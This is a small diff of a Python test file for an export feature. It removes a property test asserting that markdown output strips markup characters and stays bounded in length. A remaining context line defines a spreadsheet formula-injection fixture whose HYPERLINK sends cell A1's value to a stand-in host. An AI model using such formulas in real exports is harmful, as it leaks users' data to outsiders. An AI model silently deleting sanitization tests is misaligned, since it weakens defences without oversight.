@@ -220,13 +220,6 @@ def test_the_environment_log_has_the_other_mlx(made, html):
     assert (bump["is"], bump["was"], bump["commit"]) == ("0.32.4", "0.31.0", made.commits[sites.BUMP])
 
 
-@given(some.text())
-def test_markdown_takes_no_text_for_more(text):
-    shown = exports.markdown(text)
-    assert not set(shown) & set('|<>[]*`\\"@!~\n\r')
-    assert len(shown) <= 300 * 10
-
-
 EVIL = '=HYPERLINK("http://x.example/?"&A1,"ok");=1+1\n=2'
 
 
